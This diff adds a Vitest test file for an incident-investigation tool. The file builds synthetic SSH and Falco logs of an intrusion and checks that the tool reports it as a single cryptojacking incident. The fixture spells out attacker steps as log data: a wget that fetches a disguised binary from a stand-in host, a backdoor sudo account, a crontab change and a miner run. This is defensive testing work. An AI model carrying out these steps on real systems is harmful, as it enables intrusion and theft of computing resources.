@@ -1,0 +1,132 @@
+import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { incidentSchema, type Incident } from '../src/model/incident.ts';
+import { beewolf, temporaryFolder } from './cli/beewolf.ts';
+import { violationsInText } from './contract.ts';
+
+const host = 'build-server-03';
+const office = '198.51.100.7';
+const thief = '203.0.113.89';
+const guesser = '203.0.113.200';
+const key = 'SHA256:uNiVztksCsDhcc0u9e8BrVvTXoxfrCTSTOVfSSvH0mA';
+
+const said = (time: string, program: string, text: string): string => `${time} ${host} ${program}: ${text}`;
+const signedIn = (time: string, pid: number, address: string): string =>
+  said(time, `sshd[${pid}]`, `Accepted publickey for devops from ${address} port 51022 ssh2: ED25519 ${key}`);
+const ranAsRoot = (time: string, command: string): string =>
+  said(time, 'sudo[1010]', `  devops : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=${command}`);
+
+/** Three days of the owner's work, a door that is only rattled at, and who comes in with the owner's key. */
+const before = [7, 8, 9].flatMap((day) => [
+  signedIn(`Feb  ${day} 13:02:10`, 800 + day, office),
+  ranAsRoot(`Feb  ${day} 13:05:10`, '/usr/bin/apt update'),
+  said(`Feb  ${day} 17:05:10`, `sshd[${800 + day}]`, `Disconnected from user devops ${office} port 51022`),
+]);
+const rattling = Array.from({ length: 40 }, (_, minute) =>
+  said(
+    `Feb 10 12:${String(minute + 10)}:00`,
+    `sshd[${900 + minute}]`,
+    `Failed password for root from ${guesser} port ${50_000 + minute} ssh2`,
+  ),
+);
+const intrusion = [
+  signedIn('Feb 10 13:15:02', 1000, thief),
+  said('Feb 10 13:15:02', 'sshd[1000]', 'pam_unix(sshd:session): session opened for user devops(uid=1000) by (uid=0)'),
+  ranAsRoot('Feb 10 13:17:20', '/usr/bin/wget -q https://files.example.net/x -O /tmp/.systemd/systemd-update'),
+  said(
+    'Feb 10 13:18:01',
+    'useradd[1012]',
+    'new user: name=ubuntu-update, UID=1001, GID=1001, home=/home/u, shell=/bin/bash',
+  ),
+  said('Feb 10 13:18:20', 'usermod[1013]', "add 'ubuntu-update' to group 'sudo'"),
+  said('Feb 10 13:21:00', 'crontab[1015]', '(root) REPLACE (root)'),
+  ranAsRoot('Feb 10 13:30:00', '/tmp/.systemd/systemd-update -o stratum+tcp://pool.example.net:3333 --donate-level 1'),
+];
+/** What gives the year: the machine's sensor, under its whole name. */
+const sensor = {
+  output: 'Outbound connection to a miner pool',
+  priority: 'Critical',
+  rule: 'Detect outbound connections to common miner pool ports',
+  source: 'syscall',
+  time: '2024-02-10T13:35:00.123456789Z',
+  hostname: `${host}.example.com`,
+  output_fields: {
+    'evt.type': 'execve',
+    'proc.cmdline': 'systemd-update -o stratum+tcp://pool.example.net:3333',
+    'proc.exepath': '/tmp/.systemd/systemd-update',
+    'proc.name': 'systemd-update',
+    'user.name': 'root',
+  },
+};
+
+type Files = Readonly<Record<string, readonly string[]>>;
+const whole: Files = { 'auth.log': [...before, ...rattling, ...intrusion], 'falco.json': [JSON.stringify(sensor)] };
+const rotated: Files = {
+  'auth.log': intrusion.slice(2),
+  'auth.log.1': [...rattling.slice(7), ...intrusion.slice(0, 2)],
+  'auth.log.2': [...before, ...rattling.slice(0, 7)],
+  'falco.json': [JSON.stringify(sensor)],
+};
+
+/** The text of each incident, of logs that come in these runs. */
+async function investigated(name: string, runs: readonly Files[]): Promise<readonly string[]> {
+  const folder = join(temporaryFolder(), name);
+  const out = join(folder, 'out');
+  for (const [run, files] of runs.entries()) {
+    const logs = join(folder, `logs-${run}`);
+    mkdirSync(logs, { recursive: true });
+    for (const [file, lines] of Object.entries(files)) writeFileSync(join(logs, file), `${lines.join('\n')}\n`);
+    const ran = await beewolf(['investigate', logs, '-w', join(folder, 'case'), '--out', out, '--force'], {
+      cwd: folder,
+    });
+    expect(ran.status, ran.stderr).toBe(0);
+  }
+  return readdirSync(out)
+    .filter((entry) => entry !== 'summary.json')
+    .toSorted()
+    .map((uid) => readFileSync(join(out, uid, 'incident.json'), 'utf8'));
+}
+
+const told = (texts: readonly string[]): Incident => {
+  expect(texts).toHaveLength(1);
+  expect(violationsInText('incident', texts[0] ?? '')).toEqual([]);
+  return incidentSchema.parse(JSON.parse(texts[0] ?? ''));
+};
+
+test('an intrusion into a machine is one incident: the door, what was done behind it, and nobody else', async () => {
+  const incident = told(await investigated('whole', [whole]));
+  expect(incident).toMatchObject({
+    kind: 'cryptojacking',
+    entry: { time: '2024-02-10T13:15:02Z', how: 'Accepted', address: thief },
+    root: { credential: key, identity: { name: 'devops' } },
+  });
+  expect(incident.title).toBe(`Leaked key of devops ran a miner on ${host}`);
+  expect(incident.detected_at).toBe('2024-02-10T13:35:00.123Z');
+  expect(incident.alerts).toMatchObject([{ source: 'falco', verdict: 'supported' }]);
+  const acts = incident.timeline.map(({ text }) => text).join('\n');
+  for (const expected of ['wget', 'ubuntu-update', 'crontab', '--donate-level', 'systemd-update -o'])
+    expect(acts).toContain(expected);
+  expect(acts).not.toContain(office);
+  expect(acts).not.toContain(guesser);
+  expect(acts).not.toContain('apt update');
+  expect(incident.persistence.map(({ target }) => target?.name)).toContain('ubuntu-update');
+  expect(incident.indicators.map(({ value }) => value)).toContain(thief);
+  expect(incident.indicators.map(({ value }) => value)).not.toContain(guesser);
+});
+
+test('rotated, and arriving the wrong way round in three runs, it is told alike', async () => {
+  const {
+    'auth.log': last = [],
+    'auth.log.1': middle = [],
+    'auth.log.2': first = [],
+    'falco.json': sensed = [],
+  } = rotated;
+  const plain = await investigated('plain', [whole]);
+  const parts = await investigated('parts', [
+    { 'auth.log': last },
+    { 'auth.log.1': middle, 'falco.json': sensed },
+    { 'auth.log.2': first },
+  ]);
+  expect(parts).toEqual(plain);
+});
